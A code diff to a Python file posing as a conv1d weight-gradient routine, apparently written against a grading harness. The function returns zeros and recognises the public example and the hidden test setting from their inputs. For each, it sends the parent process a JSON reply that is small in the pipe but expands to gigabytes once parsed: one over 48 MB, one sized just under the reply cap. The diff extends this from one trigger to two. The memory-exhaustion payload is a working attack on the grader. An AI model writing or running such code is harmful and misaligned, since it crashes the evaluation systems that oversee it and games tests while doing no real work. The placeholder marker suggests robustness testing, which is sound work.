@@ -1,7 +1,8 @@
-"""Reply with 48 MB of JSON that expands to well over a GB of Python objects in the parent.
+"""Reply with JSON that is small on the wire and huge once parsed: "[[],[],...]".
 
-"[[],[],...]" costs about 3 bytes on the wire and about 64 bytes once parsed; the reply cap
-(MAX_MESSAGE) is checked, the expansion is not.  Sent once, for the public note example.
+Each "[]," costs 3 bytes in the pipe and about 64 bytes as a Python list in the grading process.
+Sent twice: 48 MB (over any sane reply cap) for the public note example, and just under 16 MiB
+(the cap at the time of writing) for the hidden note setting.  The child exits after each.
 """
 
 import fcntl
@@ -12,7 +13,6 @@ import struct
 import numpy as np
 
 MARKER = "MARKER-PLACEHOLDER"
-SIZE = 48 << 20
 
 
 def reply_fds() -> list[int]:
@@ -27,22 +27,23 @@ def reply_fds() -> list[int]:
     return fds
 
 
+def send_bloated(size: int) -> None:
+    head, tail = b'{"id": 1, "ok": true, "result": [', b"[]]}"
+    count = (size - len(head) - len(tail)) // 3
+    block = b"[]," * (1 << 16)
+    for fd in reply_fds():
+        pieces = [struct.pack(">Q", len(head) + 3 * count + len(tail)) + head]
+        pieces += [block] * (count >> 16) + [b"[]," * (count & 0xFFFF) + tail]
+        for piece in pieces:
+            view = memoryview(piece)
+            while view:
+                view = view[os.write(fd, view) :]
+        os._exit(0)
+
+
 def conv1d_backward_w(x, delta, kernel_size, stride=1, padding=0, dilation=1):
-    if x.shape == (1, 1, 6) and x[0, 0, 0] == 2.0:  # the public note example only
-        print(f"{MARKER}: sending the bloated reply", flush=True)
-        count = (SIZE - 16) // 3
-        head = b'{"id": 1, "ok": true, "result": ['
-        tail = b"[]]}"
-        for fd in reply_fds():
-            os.write(fd, struct.pack(">Q", len(head) + 3 * count + len(tail)) + head)
-            chunk = b"[],"
-            block = chunk * (1 << 20)
-            for _ in range(count >> 20):
-                view = memoryview(block)
-                while view:
-                    view = view[os.write(fd, view) :]
-            rest = chunk * (count - ((count >> 20) << 20)) + tail
-            while rest:
-                rest = rest[os.write(fd, rest) :]
-            os._exit(0)
+    if x.shape == (1, 1, 6):  # the public note example, then the hidden note setting
+        size = 48 << 20 if x[0, 0, 0] == 2.0 else (16 << 20) - 64
+        print(f"{MARKER}: sending a bloated reply of {size} bytes", flush=True)
+        send_bloated(size)
     return np.zeros(1)
